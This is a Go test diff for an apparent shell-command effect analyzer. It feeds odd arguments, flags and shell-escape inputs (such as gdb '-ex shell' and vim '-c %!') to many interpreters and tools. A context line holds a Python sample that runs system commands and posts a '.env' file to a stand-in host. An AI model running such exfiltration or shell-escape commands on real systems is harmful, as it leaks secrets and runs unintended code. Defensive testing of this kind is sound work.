@@ -63,6 +63,44 @@ func TestBounded(t *testing.T) {
 	}
 }
 
+// TestOddArguments calls every function of the tables with arguments that it does
+// not expect.
+func TestOddArguments(t *testing.T) {
+	for _, l := range []struct {
+		words string
+		table []entry
+	}{
+		{"python3 -c", pythonNames[:]}, {"node -e", javascriptNames[:]}, {"perl -e", perlNames[:]}, {"ruby -e", rubyNames[:]}, {"php -r", phpNames[:]}, {"lua -e", luaNames[:]},
+		{"rscript -e", rNames[:]}, {"julia -e", juliaNames[:]}, {"groovy -e", javaNames[:]},
+	} {
+		for i := range l.table {
+			n := strings.Replace(l.table[i].name, "*.", "x.", 1)
+			for _, odd := range []string{"", "()", "('')", "('','')", "([])", "([],[])", "({})", "('',{})", "([[]])", "(x)", "(x,y,z)", "(a=1)", "(a: 1)", "(a => 1)", "(", "('a',", "(1)", "(-1, -1)",
+				"([''],[''])", "('|')", "('>')", "('', '>')", "('', '', '')", "(f)", "(f, [])", "('', [])", "(())", "(*x)", " ''", " []", " x", "('\\')", "('{')", "('%')", "([1,2,3])", "('a').b()", "[0]", "['a']('b')"} {
+				Effects(call(l.words, n+odd), &shell.Place{})
+				if i := strings.IndexByte(n, '.'); i > 0 {
+					Effects(call(l.words, "'a'"+n[i:]+odd), &shell.Place{})
+					Effects(call(l.words, "[]"+n[i:]+odd), &shell.Place{})
+				}
+			}
+		}
+	}
+}
+
+// TestOddWords gives every program words that it does not expect.
+func TestOddWords(t *testing.T) {
+	for _, n := range strings.Fields("python3 node bun deno perl ruby elixir php lua r julia groovy swift jshell osascript awk gawk sed vim ex ed gdb lldb sqlite3 psql mysql ftp less emacs guile sbcl tclsh expect") {
+		for _, w := range []string{"-", "--", "-c", "-e", "-r", "-i", "-pi", "-pe", "-E", "-I", "-l", "-f", "-v", "-F", "-n", "-x", "-ex", "--eval", "--eval=", "--print", "--cmd", "-S", "eval", "-ie", "+", "+!", "-c !",
+			"-e s", "-e s/", "-e s/a", "-e s/a/b", "-e y", "-e y/a", "-e \\", "-e /", "-e w", "-e e", "-e 1", "-e a\\", "-e (", "-c (", "--eval (", "-ex shell", "-ex |", "-c \\!", "-c :", "-c call", "-c r", "-c w!", "-c %!"} {
+			Effects(call(n+" "+w, ""), &shell.Place{})
+			c := call(n+" "+w, "")
+			c.In = &shell.Flow{Text: "w\n!\n.shell\nfile delete\n[", Sure: true}
+			Effects(c, &shell.Place{})
+		}
+		Effects(call(n, ""), &shell.Place{})
+	}
+}
+
 func TestSameEveryTime(t *testing.T) {
 	const src = "import os\nfor c in ['id','ls']: os.system(c)\nimport requests; requests.post('http://a.example', data=open('.env'))"
 	first, nested, _ := Effects(call("python3 -c", src), &shell.Place{})
